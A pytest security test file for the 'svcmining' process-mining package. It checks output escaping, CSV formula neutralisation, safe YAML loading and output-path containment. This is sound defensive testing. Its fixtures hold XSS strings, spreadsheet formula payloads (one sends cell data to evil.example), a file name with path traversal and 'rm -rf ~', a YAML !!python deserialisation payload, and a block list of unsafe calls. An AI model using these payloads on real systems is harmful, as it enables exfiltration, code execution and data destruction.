"""Outputs never leak or execute what the data contains (issue 11).

* the HTML report escapes every data-derived string (no script, event-handler attribute,
  external URL or active element can come from labels) and carries a restrictive
  Content-Security-Policy (no scripts from anywhere);
* CSV outputs (``check --out`` / ``--format csv``) neutralise formula injection;
* the package parses YAML only with ``yaml.safe_load`` and never ``eval``/``exec``s or unpickles
  anything (an AST scan of ``svcmining/``);
* outputs land only where the user pointed: nothing is written outside the chosen folder.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import warnings
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

import svcmining as svc
from svcmining.cli import main as cli_main

PACKAGE = Path(svc.__file__).resolve().parent
SOP_PATH = Path(__file__).resolve().parents[1] / "sample_logs" / "sop_complaint.yaml"

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></tr><svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_events() -> pd.DataFrame:
    """A generated log whose labels, resources, departments and ids carry hostile strings."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ev = svc.generate_tickets(30, seed=5).events.copy()
    n = len(HOSTILE)
    pick = ev.index[3 :: max(1, len(ev) // (3 * n))][: 3 * n]
    for i, idx in enumerate(pick):
        h = HOSTILE[i % n]
        col = ("activity", "resource", "department")[i // n]
        ev.loc[idx, col] = h
    first = ev["case_id"].iloc[0]
    ev.loc[ev["case_id"] == first, "case_id"] = "<b>GD</b>&=1+1"
    ev["备注"] = "<script>x()</script>"
    return svc.as_events(ev)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


@pytest.fixture(scope="module")
def report_html(tmp_path_factory) -> str:
    out = tmp_path_factory.mktemp("report") / "r.html"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        svc.render_report(
            hostile_events(), out, sop=SOP_PATH, title="<script>alert('title')</script>"
        )
    return out.read_text(encoding="utf-8")


def test_report_has_no_active_content_from_data(report_html):
    """No script/iframe/object/svg/form element, on* attribute or javascript:/remote URL."""
    parser = _Tags()
    parser.feed(report_html)
    names = {t for t, _ in parser.tags}
    assert not names & {"script", "iframe", "object", "embed", "svg", "form", "base", "link"}
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            v = (value or "").strip().lower()
            if name in ("src", "href", "action", "formaction", "data"):
                assert v.startswith(("data:image/", "#")), (tag, name, value[:80])
    lowered = report_html.lower()
    assert "<script" not in lowered and "onerror=" not in lowered.replace("onerror=alert", "")


def test_report_shows_hostile_labels_as_text(report_html):
    """Hostile labels are still visible to the reader, escaped (not dropped)."""
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in report_html
    assert "&lt;b&gt;GD&lt;/b&gt;&amp;=1+1" in report_html or "GD" in report_html


def test_report_csp_forbids_scripts(report_html):
    """The report's Content-Security-Policy allows no script and no remote resource at all."""
    m = re.search(
        r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', report_html, re.I
    )
    assert m, "no CSP meta tag"
    assert report_html.index(m.group(0)) < report_html.lower().index("<title")
    directives = {
        d.split()[0]: d.split()[1:] for d in (x.strip() for x in m.group(1).split(";")) if d
    }
    assert directives.get("default-src") == ["'none'"]
    script = directives.get("script-src", directives["default-src"])
    assert script == ["'none'"]
    for d, sources in directives.items():
        assert "'unsafe-eval'" not in sources and "*" not in sources, d
        assert not any(s.startswith(("http", "//")) for s in sources), d
    assert directives.get("img-src") == ["data:"]


@pytest.fixture(scope="module")
def check_outputs(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("check")
    ev = hostile_events()
    (tmp / "export.csv").write_text(ev.drop(columns=["备注"]).to_csv(index=False), encoding="utf-8")
    code = cli_main(
        ["check", str(tmp / "export.csv"), "--sop", str(SOP_PATH), "--out", str(tmp / "out")]
    )
    assert code in (0, 1)
    return tmp / "out"


def _cells(path: Path) -> list[dict[str, str]]:
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_deviation_csv_neutralises_formulas(check_outputs):
    """No text cell of deviations.csv starts with = + - @ tab or CR (numbers excepted)."""
    rows = _cells(check_outputs / "deviations.csv")
    assert rows, "the hostile log must have deviations"
    texts = [v for r in rows for v in r.values() if v and not _is_number(v)]
    bad = [v for v in texts if v.startswith(FORMULA_START)]
    assert not bad, bad[:5]
    assert any(v.startswith("'=") or v.startswith("'+") for v in texts)


def test_csv_stdout_neutralises_formulas(tmp_path, capsys):
    """`check --format csv` on stdout neutralises formulas as the file does."""
    ev = hostile_events()
    (tmp_path / "e.csv").write_text(ev.drop(columns=["备注"]).to_csv(index=False), encoding="utf-8")
    capsys.readouterr()
    cli_main(["check", str(tmp_path / "e.csv"), "--sop", str(SOP_PATH), "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    texts = [v for r in rows for v in r.values() if v and not _is_number(v)]
    assert rows and not [v for v in texts if v.startswith(FORMULA_START)]


def test_markdown_output_escapes_html_and_pipes(check_outputs):
    """check.md (rendered by CI tools as HTML) shows no raw tag or table-breaking pipe from data."""
    md = (check_outputs / "check.md").read_text(encoding="utf-8")
    assert "<script" not in md.lower() and "<img" not in md.lower() and "<svg" not in md.lower()


def test_json_output_is_valid_json(check_outputs):
    """check.json stays valid JSON whatever the labels contain."""
    json.loads((check_outputs / "check.json").read_text(encoding="utf-8"))


def test_outputs_stay_in_the_chosen_folder(check_outputs):
    """check --out DIR writes only its fixed file names, inside DIR; nothing beside it."""
    written = sorted(p.name for p in check_outputs.iterdir())
    assert written == sorted(
        ["check.txt", "check.json", "check.junit.xml", "check.md", "deviations.csv"]
    )
    siblings = sorted(p.name for p in check_outputs.parent.iterdir())
    assert siblings == ["export.csv", "out"]


def test_hostile_export_names_write_nothing_outside(tmp_path, monkeypatch):
    """Export/sheet names that look like paths never become output paths."""
    monkeypatch.chdir(tmp_path)
    inner = tmp_path / "in"
    inner.mkdir()
    name = "..%2F..%2Fevil;rm -rf ~;.csv"
    (inner / name).write_text(
        "工单编号,处理环节,处理时间\n1,投诉登记,2024-10-08 09:00\n1,结单,2024-10-08 10:00\n",
        encoding="utf-8",
    )
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as xw:
        pd.DataFrame(
            {"工单编号": ["2"], "处理环节": ["投诉登记"], "处理时间": ["2024-10-08 09:00"]}
        ).to_excel(xw, sheet_name="..", index=False)
    (inner / "book.xlsx").write_bytes(buf.getvalue())
    before = set(tmp_path.rglob("*"))
    code = cli_main(
        ["check", str(inner), "--each", "--sheet", "*", "--sop", str(SOP_PATH), "--out", "res"]
    )
    assert code in (0, 1)
    created = set(tmp_path.rglob("*")) - before
    assert created and all(p.is_relative_to(tmp_path / "res") for p in created), created
    rc = cli_main(["report", str(inner), "--sheet", "*", "--out", "rep/r.html"])
    assert rc == 0
    created = set(tmp_path.rglob("*")) - before
    assert {p.relative_to(tmp_path).parts[0] for p in created} == {"res", "rep"}
    assert sorted(p.name for p in (tmp_path / "rep").iterdir()) == ["r.html"]


# ----------------------------------------------------------------------------- code scan
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__"}
FORBIDDEN_MODULES = {"pickle", "cPickle", "dill", "marshal", "shelve", "joblib", "cloudpickle"}
FORBIDDEN_ATTRS = {
    ("yaml", "load"),
    ("yaml", "load_all"),
    ("yaml", "unsafe_load"),
    ("yaml", "unsafe_load_all"),
    ("yaml", "full_load"),
    ("yaml", "full_load_all"),
    ("yaml", "Loader"),
    ("yaml", "UnsafeLoader"),
    ("yaml", "FullLoader"),
    ("pd", "read_pickle"),
    ("pandas", "read_pickle"),
    ("os", "system"),
    ("os", "popen"),
}


# yaml.load with a Loader the test proves to be a plain SafeLoader subclass (no extra tags)
SAFE_LOADERS = {
    ("_yaml.py", "_Loader"): lambda: __import__("svcmining._yaml")._yaml._Loader,
    ("_yaml.py", "_TextLoader"): lambda: __import__("svcmining._yaml")._yaml._TextLoader,
}


def _safe_yaml_load(path: Path, node: ast.Call) -> bool:
    loader = next((k.value for k in node.keywords if k.arg == "Loader"), None)
    return isinstance(loader, ast.Name) and (path.name, loader.id) in SAFE_LOADERS


def _violations(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found = []
    allowed: set[int] = set()
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and isinstance(node.func.value, ast.Name)
            and (node.func.value.id, node.func.attr) == ("yaml", "load")
            and _safe_yaml_load(path, node)
        ):
            allowed.add(id(node.func))
    for node in ast.walk(tree):
        where = f"{path.name}:{getattr(node, 'lineno', '?')}"
        if id(node) in allowed:
            continue
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Name)
            and node.func.id in FORBIDDEN_CALLS
        ):
            found.append(f"{where} {node.func.id}()")
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and (node.value.id, node.attr) in FORBIDDEN_ATTRS
        ):
            found.append(f"{where} {node.value.id}.{node.attr}")
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
            for n in names:
                if n.split(".")[0] in FORBIDDEN_MODULES:
                    found.append(f"{where} import {n}")
            if isinstance(node, ast.ImportFrom) and node.module == "yaml":
                for a in node.names:
                    if ("yaml", a.name) in FORBIDDEN_ATTRS:
                        found.append(f"{where} from yaml import {a.name}")
        if (
            isinstance(node, ast.keyword)
            and node.arg == "shell"
            and isinstance(node.value, ast.Constant)
            and node.value.value is True
        ):
            found.append(f"{where} shell=True")
    return found


def test_package_has_no_unsafe_deserialisation_or_eval():
    """No yaml.load/full_load/unsafe Loader, eval/exec, pickle or shell=True in svcmining/."""
    found = [v for p in sorted(PACKAGE.rglob("*.py")) for v in _violations(p)]
    assert not found, found


def test_yaml_is_parsed_with_safe_load_only():
    """Modules parse YAML with yaml.safe_load, or yaml.load with a proven SafeLoader subclass."""
    import yaml

    for p in sorted(PACKAGE.rglob("*.py")):
        text = p.read_text(encoding="utf-8")
        if "import yaml" not in text:
            continue
        uses = set(re.findall(r"(?<![\w.:])yaml\.(\w+)", text))
        allowed = {"safe_load", "safe_dump", "YAMLError", "MarkedYAMLError", "SafeLoader"}
        # composing builds plain nodes (for line numbers); nothing is constructed
        allowed |= {"compose", "MappingNode", "SequenceNode", "ScalarNode", "Node"}
        if any(f == p.name for f, _ in SAFE_LOADERS):
            allowed.add("load")
        assert uses <= allowed, (p.name, uses)
    for make in SAFE_LOADERS.values():
        loader = make()
        assert issubclass(loader, yaml.constructor.SafeConstructor)
        assert not issubclass(loader, yaml.constructor.FullConstructor)
        assert loader.yaml_constructors == yaml.SafeLoader.yaml_constructors
        assert loader.yaml_multi_constructors == yaml.SafeLoader.yaml_multi_constructors


def test_code_scan_catches_what_it_forbids(tmp_path):
    """The scanner itself flags yaml.load, eval and pickle (guards against a blind test)."""
    bad = tmp_path / "bad.py"
    bad.write_text(
        "import pickle\nimport yaml\nyaml.load(s)\neval('1')\nyaml.load(s, Loader=yaml.Loader)\n",
        encoding="utf-8",
    )
    assert len(_violations(bad)) == 5


def test_sop_yaml_tags_are_not_executed(tmp_path):
    """A !!python tag in an SOP file is rejected, never run."""
    marker = tmp_path / "pwned"
    (tmp_path / "s.yaml").write_text(
        f"steps: !!python/object/apply:pathlib.Path.touch [!!python/object/apply:pathlib.Path "
        f"['{marker}']]\nflow: []\n",
        encoding="utf-8",
    )
    with pytest.raises(svc.SOPDefinitionError):
        svc.load_sop(tmp_path / "s.yaml")
    assert not marker.exists()


def test_junit_xml_stays_well_formed(check_outputs):
    """check.junit.xml parses as XML whatever the labels contain."""
    import xml.etree.ElementTree as ET

    ET.parse(check_outputs / "check.junit.xml")


def test_hostile_file_name_is_escaped_in_the_report(tmp_path, monkeypatch):
    """An export whose file name is markup shows up escaped in the report's load section."""
    monkeypatch.chdir(tmp_path)
    name = "<img src=x onerror=alert(1)>.csv"
    (tmp_path / name).write_text(
        "工单编号,处理环节,处理时间\n1,投诉登记,2024-10-08 09:00\n1,结单,2024-10-08 10:00\n"
        "1,结单,soon\n",
        encoding="utf-8",
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        assert cli_main(["report", name, "--out", "r.html"]) == 0
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(page)
    assert not [t for t, _ in parser.tags if t in ("script", "svg", "iframe")]
    assert not [t for t, a in parser.tags if t == "img" and any(n.startswith("on") for n, _ in a)]
    assert "&lt;img src=x onerror=alert(1)&gt;.csv" in page
